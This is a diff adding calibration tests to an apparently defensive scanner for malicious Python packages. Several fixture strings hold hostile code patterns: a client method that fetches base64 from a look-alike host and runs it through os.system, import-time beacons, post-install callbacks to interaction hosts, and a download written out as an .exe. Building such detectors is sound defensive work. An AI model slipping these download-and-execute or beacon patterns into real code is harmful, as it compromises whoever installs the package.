@@ -299,3 +299,130 @@ def test_tls_disabled_in_library_code_is_low():
     res = run_engine({"lib/tls.py": src})
     assert pairs(res, TLS) == {(TLS, 6), (TLS, 7)}
     assert max(conf(res, TLS).values()) < 0.3
+
+
+# ---------------------------------------------------------------- calibration: any-phase cases
+WRITE = "code_write_to_disk"
+ENCODED = "code_execution_encoded_command"
+SHELL_CMD = "code_execution_shell_command"
+
+
+def test_lookalike_host_and_decoded_response_run_as_command_in_a_method():
+    # modelled on a trojanised client library: a method fetches base64 text from a vendor
+    # look-alike on a throwaway TLD and runs it through a shell
+    src = '''\
+        import base64, os, requests
+
+        class Client:
+            async def send_message(self, entity, message):
+                try:
+                    resp = requests.get("https://tg.aliyun-sdk.example.xyz/telegram")
+                    os.system(base64.b64decode(resp.text).decode("utf-8"))
+                except:
+                    pass
+                return entity
+        '''
+    res = run_engine({"pkg/client/messages.py": src})
+    assert classify("tg.aliyun-sdk.example.xyz") >= {HostKind.LOOKALIKE, HostKind.ODD_TLD}
+    assert pairs(res, ACCESS) == {(ACCESS, 6)}
+    assert pairs(res, PAYLOAD) == {(PAYLOAD, 6)}
+    assert pairs(res, ENCODED) == {(ENCODED, 7)}
+    assert pairs(res, SHELL_CMD) == {(SHELL_CMD, 7)}
+    assert min(conf(res, ACCESS)[6], conf(res, PAYLOAD)[6], conf(res, ENCODED)[7],
+               conf(res, SHELL_CMD)[7]) >= 0.7
+
+
+def test_response_used_only_as_an_argument_is_not_a_payload():
+    src = '''\
+        import os, subprocess, requests
+
+        def update():
+            resp = requests.get("https://api.example.com/latest")
+            version = resp.json()["version"]
+            subprocess.run(["pip", "install", f"tool=={version}"])
+            os.system(f"echo {resp.status_code}")
+        '''
+    res = run_engine({"pkg/update.py": src})
+    assert pairs(res, PAYLOAD) == set()
+    assert pairs(res, ENCODED) == set()
+    assert pairs(res, ACCESS) == set()
+    assert classify("api.example.com") == frozenset()
+
+
+def test_request_at_import_time_to_an_unknown_host_is_a_beacon():
+    src = '''\
+        # This runs on import
+        import requests
+        requests.get("http://beacon.example.com/init")
+        requests.get("https://pypi.org/pypi/demo/json")
+        requests.get("https://raw.githubusercontent.com/o/r/main/data.txt")
+
+        def main():
+            requests.get("http://beacon.example.com/main")
+        '''
+    res = run_engine({"pkg/init.py": src})
+    assert pairs(res, ACCESS) == {(ACCESS, 3)}
+    assert 0.55 <= conf(res, ACCESS)[3] < 0.7
+    assert pairs(run_engine({"pkg/tests/test_live.py": src}), ACCESS) == set()
+
+
+def test_interaction_host_opened_in_the_browser_from_a_helper_function():
+    src = '''\
+        """Post-install helper (see https://x1.oast.fun in the docs: not flagged)."""
+        import threading, uuid, webbrowser
+        CALLBACK = "x2.interact.sh"
+
+        def run():
+            def open_first_url():
+                uid = "pkg-" + str(uuid.uuid4())
+                url1 = f"https://yo1.oast.cz?ref=pkg&id={uid}"
+                webbrowser.open_new_tab(url1)
+            threading.Thread(target=open_first_url).start()
+        '''
+    res = run_engine({"pkg/_postinstall.py": src})
+    assert pairs(res, ACCESS) == {(ACCESS, 3), (ACCESS, 9)}
+    assert min(conf(res, ACCESS).values()) >= 0.7
+
+
+def test_browser_opening_documentation_is_not_suspicious():
+    src = '''\
+        import webbrowser
+
+        def docs(page):
+            webbrowser.open("https://docs.example.com/" + page)
+            webbrowser.open_new_tab("https://github.com/example/project")
+        '''
+    res = run_engine({"pkg/cli.py": src})
+    assert pairs(res, ACCESS) == set()
+    assert [s for s in res.signals if s.confidence >= 0.3] == []
+
+
+def test_downloaded_hex_written_as_exe_in_a_function_is_high():
+    src = '''\
+        import binascii, getpass, requests
+
+        def start_assessment():
+            b = requests.get("https://github.com/example/x/raw/main/hehe.txt", verify=False)
+            path = "C:/Users/" + getpass.getuser() + "/Documents/"
+            with open(path + "c1.exe", "wb") as f:
+                f.write(binascii.unhexlify(str(b.text).encode()))
+        '''
+    res = run_engine({"pkg/core.py": src})
+    assert pairs(res, BINARY) == {(BINARY, 4)}
+    assert pairs(res, WRITE) == {(WRITE, 7)}
+    assert conf(res, BINARY)[4] >= 0.8 and conf(res, WRITE)[7] >= 0.7
+
+
+def test_downloaded_data_saved_as_json_in_a_function_is_low():
+    src = '''\
+        import requests
+
+        def refresh():
+            r = requests.get("https://github.com/example/x/raw/main/data.json")
+            with open("cache/data.json", "w") as f:
+                f.write(r.text)
+        '''
+    res = run_engine({"pkg/cache.py": src})
+    assert pairs(res, BINARY) == set()
+    assert pairs(res, PAYLOAD) == set()
+    assert all(c < 0.7 for c in conf(res, WRITE).values())
